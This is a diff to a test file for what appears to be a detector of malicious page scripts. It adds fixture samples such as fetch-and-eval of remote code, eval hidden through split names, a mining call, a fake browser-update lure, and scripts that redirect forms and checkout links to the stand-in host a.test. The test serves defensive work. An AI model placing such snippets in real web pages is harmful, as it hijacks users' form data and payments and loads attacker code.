@@ -42,6 +42,16 @@ const junk = 'QzWyT'
 const inJunk = (text: string): string => `'${text.split('').join(junk)}'.replace(/${junk}/g,'')`
 
 const malicious: readonly [string, string][] = [
+  [
+    'runs what a call fetches',
+    `var k=()=>{var x=new XMLHttpRequest();x.open('GET','https://a.test/',false);x.send();return x.responseText};eval(k())`,
+  ],
+  ['calls by names in pieces', `window[['ev','al'].join('')](window[['at','ob'].join('')](x))`],
+  ['mines for a pool', `startMining('pool.test','4ABC','x',50)`],
+  [
+    'offers an update',
+    `if(/Chrome/.test(navigator.userAgent))document.body.innerHTML='<h1>Update your browser</h1><a href="https://a.test/Chrome.zip">Update</a>'`,
+  ],
   ['calls by names in junk', `document[${inJunk('write')}](window[${inJunk('unescape')}](a.toString().replace(/${junk}/g,'%')))`],
   [
     'decodes a field of the page',
@@ -285,6 +295,11 @@ describe('with a baseline', () => {
       'high',
     )
     expect(after(page(inline(`$('body').append('<scr'+'ipt src="https://a.test/a.js"></scr'+'ipt>')`))).severity).toBe('high')
+    const formsElsewhere = `document.querySelectorAll('form').forEach(function(f){f.action='https://a.test/?r='+f.action})`
+    expect(after(page(inline(formsElsewhere))).severity).toBe('high')
+    expect(
+      after(page(inline(`document.querySelectorAll('a[href*="checkout"]').forEach(a=>a.href='https://a.test/')`))).severity,
+    ).toBe('high')
     const inPieces = `var f=document.createElement('iframe');f.style.width='0';f.style.height='0';f.src='//'+'a'+'.test/'+x`
     expect(after(page(inline(inPieces))).severity).toBe('high')
     expect(after(page('<script src="https://widget.test/w.js"></script>')).severity).toBe('low')
